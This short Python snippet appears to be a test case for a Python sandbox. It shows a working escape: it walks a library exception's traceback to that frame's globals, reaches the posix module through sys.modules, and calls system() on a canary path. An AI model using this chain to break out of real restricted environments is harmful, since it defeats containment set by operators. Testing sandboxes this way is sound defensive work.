# reaches: a traceback's inner frame lies in a library and shows its globals
import statistics
try:
    statistics.mean([])
except statistics.StatisticsError as e:
    t = e.__traceback__
    while t.tb_next:
        t = t.tb_next
    t.tb_frame.f_globals["sys"].modules["posix"].system("/srv/canary")
